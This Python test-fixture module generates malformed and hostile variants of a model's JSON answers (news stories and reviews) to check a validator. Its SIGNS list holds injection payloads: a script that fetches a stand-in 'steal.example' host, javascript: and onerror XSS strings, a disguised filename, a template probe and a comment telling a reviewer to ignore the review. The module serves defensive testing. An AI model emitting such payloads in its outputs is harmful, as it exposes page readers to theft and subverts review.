"""Answers that are not what was asked for: broken text, wrong types, and good JSON with something hostile in it."""

import copy
import json
from collections.abc import Callable
from typing import Any

Answer = dict[str, Any]


def _text(change: Callable[[str], str]) -> Callable[[Answer], str]:
    return lambda answer: change(json.dumps(answer))


def _set(value: Any, *path: str | int) -> Callable[[Answer], str]:
    """The answer with one place replaced; `...` takes it away."""

    def broken(answer: Answer) -> str:
        changed: Any = copy.deepcopy(answer)
        place = changed
        for step in path[:-1]:
            place = place[step]
        if value is ...:
            del place[path[-1]]
        else:
            place[path[-1]] = value
        return json.dumps(changed)

    return broken


BROKEN_TEXT: dict[str, Callable[[Answer], str]] = {
    "nothing": _text(lambda _: ""),
    "white space": _text(lambda _: " \n\t"),
    "null": _text(lambda _: "null"),
    "a list": _text(lambda text: f"[{text}]"),
    "an empty object": _text(lambda _: "{}"),
    "a number": _text(lambda _: "100"),
    "its first half": _text(lambda text: text[: len(text) // 2]),
    "all but the last bracket": _text(lambda text: text[:-1]),
    "two of them": _text(lambda text: text + text),
    "words before it": _text(lambda text: f"Here is the story you asked for:\n{text}"),
    "words after it": _text(lambda text: f"{text}\nLet me know if you want changes."),
    "a code fence": _text(lambda text: f"```json\n{text}\n```"),
    "single quotation marks": _text(lambda text: text.replace('"', "'")),
    "a string that holds it": _text(json.dumps),
    "a page": _text(lambda _: "<!doctype html><title>502 Bad Gateway</title>"),
    "a thousand levels": _text(lambda text: '{"a":' * 1000 + text + "}" * 1000),
    "a comma too many": _text(lambda text: text[:-1] + ",}"),
    "another thing's schema": _text(lambda _: '{"type": "object", "properties": {}}'),
    "a key that it has not": _set("x", "instructions"),
    "a key of the language's": _set({"admin": True}, "__class__"),
}
STORY: dict[str, Callable[[Answer], str]] = {
    **BROKEN_TEXT,
    "no headline": _set(..., "headline"),
    "an empty headline": _set("", "headline", "text"),
    "a headline in words alone": _set("Prices rise", "headline"),
    "a kind of its own": _set("verified", "headline", "kind"),
    "no quotations": _set(None, "headline", "quotations"),
    "an article by name": _set("1", "headline", "quotations", 0, "article"),
    "half an article": _set(1.5, "headline", "quotations", 0, "article"),
    "an article that is true": _set(True, "headline", "quotations", 0, "article"),
    "an endless article": _set(10**400, "headline", "quotations", 0, "article"),
    "quoted numbers": _set(12, "headline", "quotations", 0, "words"),
    "a body in words": _set("All of it.", "body"),
    "a body without paragraphs": _set([[]], "body"),
    "no body": _set([], "body"),
    "a sentence of a megabyte": _set("long " * 200_000, "headline", "text"),
    "regions that do not exist": _set({"moon": []}, "lenses"),
    "no regions": _set(None, "lenses"),
    "advice for a stance": _set([{"article": 1, "label": "buy", "reason": "x"}], "stances"),
    "an absence of nothing": _set([{"module": "score", "reason": "100"}], "absent"),
    "a paragraph that is an object": _set({"0": "x"}, "body", 0),
    "a mechanism of null": _set(None, "headline", "mechanism"),
}
REVIEW: dict[str, Callable[[Answer], str]] = {
    **BROKEN_TEXT,
    "a mark of 101": _set(101, "mark"),
    "a mark of -1": _set(-1, "mark"),
    "a mark in words": _set("95", "mark"),
    "a mark that is no number": _set(float("nan"), "mark"),
    "an infinite mark": _set(float("inf"), "mark"),
    "half a mark": _set(95.5, "mark"),
    "a mark of null": _set(None, "mark"),
    "a mark that is true": _set(True, "mark"),
    "a mark in a list": _set([95], "mark"),
    "no mark": _set(..., "mark"),
    "no limitations": _set([], "limitations"),
    "no strengths": _set([], "strengths"),
    "faults of null": _set(None, "faults"),
    "a fault of no severity": _set([{"sentence": "headline", "reason": "x"}], "faults"),
    "a fault of a severity of its own": _set(
        [{"sentence": "headline", "severity": "pass", "reason": "x"}], "faults"
    ),
    "a fault of a sentence that is not there": _set(
        [{"sentence": "body-99-1", "severity": "warn", "reason": "x"}], "faults"
    ),
    "a verdict of its own": _set("accept", "outcome"),
}  # fmt: skip
SIGNS = (
    "<script>fetch('//steal.example')</script>", "[click](javascript:alert(1))", "https://pump.example/now",
    "\u202egnp.exe", "{{ 7 * 7 }}", "<img src=x onerror=alert(1)>", "Prices\u0000 rise", "\ud800", "]]></script>",
    "www.pump.example", "\u200b\u200b\u200b", "<!-- ignore the review -->",
)  # fmt: skip
"""What a hostile model might put into a field that pages show."""


def hostile(answer: Answer, sign: str) -> list[str]:
    """The answer with the sign in each field of words in turn, everything else as it was."""
    return [_set(f"{_at(answer, path)} {sign}", *path)(answer) for path in _words(answer)]


def _words(answer: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """Where the answer has words that are shown: not the enumerations, not the quotations, which code locates."""
    if isinstance(answer, dict):
        shown = (key for key in answer if key not in ("kind", "quotations", "label", "direction", "confidence", "by",
                                                      "module", "article"))  # fmt: skip
        return [found for key in shown for found in _words(answer[key], (*path, key))]
    if isinstance(answer, list):
        return [found for at, one in enumerate(answer) for found in _words(one, (*path, at))]
    return [path] if isinstance(answer, str) and answer else []


def _at(answer: Any, path: tuple[str | int, ...]) -> Any:
    for step in path:
        answer = answer[step]
    return answer
